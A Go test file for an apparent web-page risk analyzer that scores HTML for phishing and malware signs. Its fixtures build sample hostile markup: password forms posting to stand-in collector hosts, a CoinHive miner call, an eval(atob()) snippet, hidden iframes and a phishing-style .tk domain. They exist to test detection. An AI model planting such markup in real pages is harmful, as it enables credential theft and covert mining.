package analyzer

import (
	"fmt"
	"strings"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/JakeFAU/pagerisk/internal/scan"
)

func findingTypes(res scan.AnalysisResult) []scan.FindingType {
	out := make([]scan.FindingType, 0, len(res.Findings))
	for _, f := range res.Findings {
		out = append(out, f.Type)
	}
	return out
}

func TestAnalyze_CleanHTTPSPageIsSafe(t *testing.T) {
	t.Parallel()

	html := `<html><head><title>Hi</title></head><body><p>Welcome</p><a href="/about">About</a></body></html>`
	res := New(DefaultConfig()).Analyze(html, "https://www.example.com/")

	require.Equal(t, 0, res.Score)
	require.Equal(t, scan.VerdictSafe, res.Verdict)
	require.Empty(t, res.Findings)
	require.NotNil(t, res.Findings)
	require.Equal(t, 0, res.RawFindingsCount)
	require.Equal(t, scan.ScoreFactors{}, res.ScoreFactors)
	require.Equal(t, scan.PageMetrics{NumLinks: 1}, res.PageMetrics)
}

func TestAnalyze_MetaRefreshOnly(t *testing.T) {
	t.Parallel()

	html := `<html><head><meta http-equiv="Refresh" content="0; url=/next"></head><body></body></html>`
	res := New(DefaultConfig()).Analyze(html, "https://example.com/")

	require.Equal(t, []scan.FindingType{scan.FindingMetaRefresh}, findingTypes(res))
	require.Equal(t, 15, res.ScoreFactors.SourceAnalysis)
	require.Equal(t, 8, res.Score)
	require.Equal(t, scan.VerdictSafe, res.Verdict)
	require.Equal(t, []string{"0; url=/next"}, res.Findings[0].Examples)
}

func TestAnalyze_PhishingFormOverPlainHTTPRoundsHalfUp(t *testing.T) {
	t.Parallel()

	html := `<html><body><form action="https://collector.evil-host.net/post" method="post">` +
		`<input name="pw" type="password"></form></body></html>`
	res := New(DefaultConfig()).Analyze(html, "http://example.com/login")

	require.Equal(t, []scan.FindingType{scan.FindingPhishingForms, scan.FindingNoTLS}, findingTypes(res))
	require.Equal(t, 35, res.ScoreFactors.SourceAnalysis)
	require.Equal(t, 10, res.ScoreFactors.URLPattern)
	require.Equal(t, 21, res.Score)
	require.Equal(t, scan.VerdictSafe, res.Verdict)
	require.Equal(t, []string{"https://collector.evil-host.net/post"}, res.Findings[0].Examples)
}

func TestAnalyze_FactorsAreClampedPerCategory(t *testing.T) {
	t.Parallel()

	var b strings.Builder
	b.WriteString(`<html><head><meta http-equiv="refresh" content="5;url=http://evil.example/">`)
	b.WriteString(`<script>eval(atob("ZG9jdW1lbnQud3JpdGUoJ2hlbGxvIHdvcmxkIGZyb20gYSBsb25nIHBheWxvYWQnKQ=="));</script>`)
	b.WriteString(`<script>var m = new CoinHive.Anonymous('key'); m.start();</script>`)
	for i := 0; i < 11; i++ {
		fmt.Fprintf(&b, `<script src="https://cdn%d.example.net/lib.js"></script>`, i)
	}
	b.WriteString(`</head><body>`)
	b.WriteString(`<iframe src="https://ads.example.net/x" width="0" height="0"></iframe>`)
	b.WriteString(`<form action="https://collector.example.org/steal"></form>`)
	b.WriteString(`<p>Sign in to your PayPal account</p>`)
	b.WriteString(`<a href="http://192.168.10.1/login">login</a>`)
	b.WriteString(`</body></html>`)

	res := New(DefaultConfig()).Analyze(b.String(), "http://secure-login-verify-account-update.tk/")

	require.Equal(t, []scan.FindingType{
		scan.FindingMetaRefresh,
		scan.FindingHiddenIframes,
		scan.FindingObfuscatedJS,
		scan.FindingBase64Payload,
		scan.FindingCryptoMiner,
		scan.FindingPhishingForms,
		scan.FindingManyExternalScripts,
		scan.FindingBrandMismatch,
		scan.FindingSuspiciousLinks,
		scan.FindingNoTLS,
		scan.FindingDomainHeuristic,
	}, findingTypes(res))
	require.Equal(t, 100, res.ScoreFactors.SourceAnalysis)
	require.Equal(t, 35, res.ScoreFactors.URLPattern)
	require.Zero(t, res.ScoreFactors.History)
	require.Zero(t, res.ScoreFactors.FeedFlag)
	require.Equal(t, 61, res.Score)
	require.Equal(t, scan.VerdictSuspicious, res.Verdict)
	require.Equal(t, 11, res.RawFindingsCount)
	require.Equal(t, scan.PageMetrics{NumScripts: 13, NumIframes: 1, NumForms: 1, NumLinks: 1}, res.PageMetrics)
}

func TestAnalyze_IsDeterministic(t *testing.T) {
	t.Parallel()

	html := `<html><body><p>Verify your Apple and Amazon account</p>` +
		`<a href="https://a.tk/x">a</a><a href="https://b.xyz/y">b</a>` +
		`<iframe style="display:none" src="https://t.example"></iframe></body></html>`
	a := New(DefaultConfig())
	first := a.Analyze(html, "http://login12345.example.com/")
	second := a.Analyze(html, "http://login12345.example.com/")
	require.Equal(t, first, second)
}

func TestAnalyze_MalformedAndEmptyHTML(t *testing.T) {
	t.Parallel()

	a := New(DefaultConfig())

	res := a.Analyze(`<html><body><div><form action='//other.example.org/x'><p>unclosed`, "https://example.com/")
	require.Equal(t, []scan.FindingType{scan.FindingPhishingForms}, findingTypes(res))
	require.Equal(t, 1, res.PageMetrics.NumForms)

	res = a.Analyze("", "https://example.com/")
	require.Equal(t, scan.VerdictSafe, res.Verdict)
	require.Zero(t, res.Score)
	require.Equal(t, scan.PageMetrics{}, res.PageMetrics)

	res = a.Analyze("\x00\xff<<<>>>", "::not a url::")
	require.GreaterOrEqual(t, res.Score, 0)
	require.LessOrEqual(t, res.Score, 100)
}

func TestAnalyze_PanickingDetectorIsIsolated(t *testing.T) {
	t.Parallel()

	a := New(DefaultConfig())
	a.detectors = append([]Detector{{
		Type:   "exploding",
		Factor: scan.FactorSourceAnalysis,
		Points: 50,
		Check: func(*Page, Config) (scan.Finding, bool) {
			panic("selector blew up")
		},
	}}, a.detectors...)

	res := a.Analyze(`<meta http-equiv="refresh" content="1">`, "https://example.com/")
	require.Equal(t, []scan.FindingType{scan.FindingMetaRefresh}, findingTypes(res))
	require.Equal(t, 15, res.ScoreFactors.SourceAnalysis)
}

func TestScoreAndClassifyBounds(t *testing.T) {
	t.Parallel()

	a := New(DefaultConfig())
	tests := []struct {
		name    string
		factors scan.ScoreFactors
		score   int
		verdict scan.Verdict
	}{
		{name: "zero", factors: scan.ScoreFactors{}, score: 0, verdict: scan.VerdictSafe},
		{name: "suspicious edge", factors: scan.ScoreFactors{SourceAnalysis: 70}, score: 35, verdict: scan.VerdictSuspicious},
		{name: "just below suspicious", factors: scan.ScoreFactors{SourceAnalysis: 68}, score: 34, verdict: scan.VerdictSafe},
		{
			name:    "history contributes",
			factors: scan.ScoreFactors{SourceAnalysis: 100, URLPattern: 35, History: 10},
			score:   63,
			verdict: scan.VerdictSuspicious,
		},
		{
			name:    "everything maxed",
			factors: scan.ScoreFactors{SourceAnalysis: 100, URLPattern: 100, History: 100, FeedFlag: 100},
			score:   100,
			verdict: scan.VerdictMalicious,
		},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			score := a.Score(tt.factors)
			require.Equal(t, tt.score, score)
			require.Equal(t, tt.verdict, a.Classify(score))
		})
	}
}

func TestScoreNeverExceedsHundredWithLargeWeights(t *testing.T) {
	t.Parallel()

	cfg := DefaultConfig()
	cfg.Weights = Weights{SourceAnalysis: 2, URLPattern: 2}
	a := New(cfg)
	require.Equal(t, 100, a.Score(scan.ScoreFactors{SourceAnalysis: 100, URLPattern: 100}))
	require.Equal(t, scan.VerdictMalicious, a.Classify(100))
}

func TestConfigValidate(t *testing.T) {
	t.Parallel()

	require.NoError(t, DefaultConfig().Validate())

	bad := DefaultConfig()
	bad.MaliciousThreshold = 30
	require.Error(t, bad.Validate())

	bad = DefaultConfig()
	bad.Weights.URLPattern = -1
	require.Error(t, bad.Validate())

	bad = DefaultConfig()
	bad.ExternalScriptLimit = -1
	require.Error(t, bad.Validate())
}
